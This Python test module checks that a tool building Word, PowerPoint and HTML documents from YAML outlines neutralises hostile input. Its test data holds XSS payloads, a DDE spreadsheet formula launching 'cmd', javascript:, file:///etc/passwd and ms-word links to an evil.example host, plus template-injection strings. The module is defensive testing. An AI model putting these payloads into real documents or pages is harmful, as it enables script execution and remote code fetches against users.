"""Texts that look like markup, formulas, links or programs; and texts in every script: they stand as they were said."""

# ruff: noqa: E501  (tables: an entry is a line)
from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path

import docx
import openpyxl
import pptx
from attack import Attack
from laying import ARTICLE, OUTLINE, both, change, title

A = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
WORD = ("build", "outlines/case.yaml", "--template", "briefing", "--lang", "zh")
SLIDES = ("build", "outlines/case.yaml", "--template", "seminar", "--lang", "zh")
LONG = r":\d+:\d+: error: .*(a judgement of|judgements don't end)"
ALL = ("build", "outlines/case.yaml")
SAYS = "says: {zh: 两文都认为夜间出行需求仍在，只是变得零散。, en: Both"


def judgement(text: str) -> Callable[[Path], object]:
    """The first judgement, in Chinese, in single quotes of YAML."""
    quoted = text.replace("'", "''")
    return change(OUTLINE, SAYS, f"says: {{zh: '{quoted}', en: Both")


def words(out: Path) -> Iterator[str]:
    """Every paragraph of every file of Word and PowerPoint, as libraries that did not write them read them."""
    for path in out.glob("case/*.docx"):
        paper = docx.Document(str(path))
        yield from (p.text for p in paper.paragraphs)
        yield from (p.text for t in paper.tables for row in t.rows for cell in row.cells for p in cell.paragraphs)
    for path in out.glob("case/*.pptx"):
        for slide in pptx.Presentation(str(path)).slides:
            for p in slide._element.iter(f"{A}p"):
                yield "".join(t.text or "" for t in p.iter(f"{A}t"))


def stands(text: str) -> Callable[[Path], object]:
    def holds(out: Path) -> None:
        assert any(text in paragraph for paragraph in words(out)), text

    return holds


def said(name: str, text: str, wanted: str = "", marked: bool = False) -> Iterator[Attack]:
    for form, arguments in (("word", WORD), ("slides", SLIDES)):
        yield Attack(
            f"text-{name}-{form}", judgement(text), arguments=arguments, holds=stands(wanted or text), marked=marked
        )


def addresses(out: Path) -> Iterator[str]:
    """Every outside address of every part."""
    from lxml import etree

    for path in (*out.glob("case/*.docx"), *out.glob("case/*.pptx")):
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                if name.endswith(".rels"):
                    for one in etree.fromstring(package.read(name)):
                        if one.get("TargetMode") == "External":
                            yield str(one.get("Target"))


def no_link(out: Path) -> None:
    found = [a for a in addresses(out) if not a.lower().startswith(("http://", "https://", "mailto:"))]
    assert found == [], found
    for page in out.glob("case/*.html"):
        text = page.read_text("utf-8").lower()
        assert 'href="javascript' not in text and 'href="data' not in text and 'href="file' not in text
        assert "<script>alert" not in text and "<img src=x" not in text


def no_formula(out: Path) -> None:
    books = 0
    for path in (*out.glob("case/*.docx"), *out.glob("case/*.pptx")):
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                if name.endswith(".xlsx"):
                    books += 1
                    cells = [
                        c for row in openpyxl.load_workbook(BytesIO(package.read(name))).active.iter_rows() for c in row
                    ]
                    assert not [c.value for c in cells if c.data_type == "f" or c.hyperlink], name
    assert books, "no workbook was made"


FORMULAS = ("=cmd|''/C calc''!A0", "+1+1", "@SUM(A1)", "=HYPERLINK(A1)", "http://example.org/x",
            "{=1+1}", "-1+1")  # fmt: skip


def formula(n: int, text: str) -> Attack:
    quoted = text.replace('"', '\\"').replace("''", "'")
    hands = both(change(OUTLINE, "{zh: 人工, en: Labour}", f'{{zh: "{quoted}", en: Labour}}'),
                 change(OUTLINE, "name: {zh: 占比, en: Share}", f'name: {{zh: "{quoted}", en: Share}}'))  # fmt: skip
    return Attack(f"workbook-{n}", hands, arguments=SLIDES if n % 2 else WORD, holds=no_formula)


def link(name: str, address: str) -> Attack:
    return Attack(
        f"link-{name}",
        judgement(f"两文都认为[夜间出行]({address})需求仍在。"),
        arguments=ALL,
        holds=no_link,
        marked=True,
    )


MARKUP = "甲 & 乙 < 丙 > 丁 ]]> &amp; &#x41; <w:p/> </w:t> “双”"
XSS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
ATTACKS = (
    *said("markup", MARKUP),
    *said("cdata", "<![CDATA[甲]]> <!-- 乙 -->"),
    *said("spaces", "甲  乙   丙\u00a0丁\u3000戊", "甲  乙   丙\u00a0丁\u3000戊"),
    *said("astral", "𠮷𠀋 𝔸 🚍👩‍👩‍👧‍👦🏳️‍🌈 需求仍在。"),
    *said("combining", "é ä́ g̈ 각 कि 需求仍在。"),
    *said("right-to-left", "需求 العربية עברית 仍在。"),
    Attack("text-jinja-word", judgement("{{ 7 + 191 }} {% raw %} 需求仍在。"), says=r":\d+:\d+: error: .*'{{ 7 . 191 }}' was not filled in", arguments=WORD),
    Attack("text-jinja-slides", judgement("{{ 7 + 191 }} 需求仍在。"), says=r":\d+:\d+: error: .*'{{' in '{{ 7 . 191 }}", arguments=SLIDES),
    *said("field", "DDEAUTO cmd INCLUDETEXT 需求仍在。"),
    *said("joiners", "a\u200db\u200cc 需求\u2060仍在。"),
    Attack("text-page", both(judgement(XSS), change(OUTLINE, "ask: {zh: 夜间出行需求还在吗？", f"ask: {{zh: '{XSS}'")),
           arguments=ALL, holds=no_link),
    Attack("text-record", both(change(ARTICLE, "title: 末班车之后", f"title: \"{XSS.replace(chr(34), '')}末班车之后"),
           change(ARTICLE, "小城夜间公交的信任账\n", "小城夜间公交的信任账\"\n")), arguments=ALL, holds=no_link),
    Attack("text-title", title(f"'{MARKUP.replace(chr(39), chr(39) * 2)}'"), arguments=ALL, holds=stands("甲 & 乙 < 丙")),
    Attack("text-long-word", judgement("夜" * 3_000), LONG, arguments=WORD),
    Attack("text-longest-slides", judgement("A" * 30_000), says=r"outlines/case\.yaml:\d+:\d+: error: ", arguments=SLIDES),
    Attack("text-stars", judgement("*" * 20_000), says=LONG, arguments=WORD),
    Attack("text-brackets", judgement("[" * 20_000), says=LONG, arguments=WORD),
    Attack("text-half-links", judgement("[甲](" * 5_000), says=r"case\.yaml:23:\d+: error: .*never closed", arguments=WORD),
    Attack("text-stars-and-backslashes", judgement("**" + "\\a" * 12_000), says=LONG, arguments=WORD),
    Attack("text-cites", judgement("[@" + "lin-2031.d1;@" * 1_500 + "lin-2031.d1]"), arguments=WORD),
    link("javascript", "javascript:alert%281%29"),
    link("javascript-case", "JaVaScRiPt:alert%281%29"),
    link("file", "file:///etc/passwd"),
    link("unc", "\\\\\\\\evil.example\\\\x"),
    link("data", "data:text/html,evil"),
    link("vbscript", "vbscript:evil"),
    link("office", "ms-word:ofe|u|http://evil.example/x.docm"),
    link("search", "search-ms:query=evil"),
    link("relative", "../../evil"),
    link("quotes", "http://evil.example/\"onclick=\"alert"),
    Attack("link-record", change(ARTICLE, "not_stated: [DOI]", "not_stated: []"), says="", arguments=ALL, holds=no_link),
    Attack("link-record-url", change(ARTICLE, "  language: zh-CN\n", "  language: zh-CN\n  URL: 'javascript:alert(1)'\n"),
           arguments=ALL, holds=no_link),
    Attack("link-record-doi", change(ARTICLE, "  language: zh-CN\nnot_stated: [DOI]", "  language: zh-CN\n  DOI: '10.1/\"><script>alert(1)</script>'"),
           arguments=ALL, holds=no_link),
    *(formula(n, text) for n, text in enumerate(FORMULAS)),
)  # fmt: skip
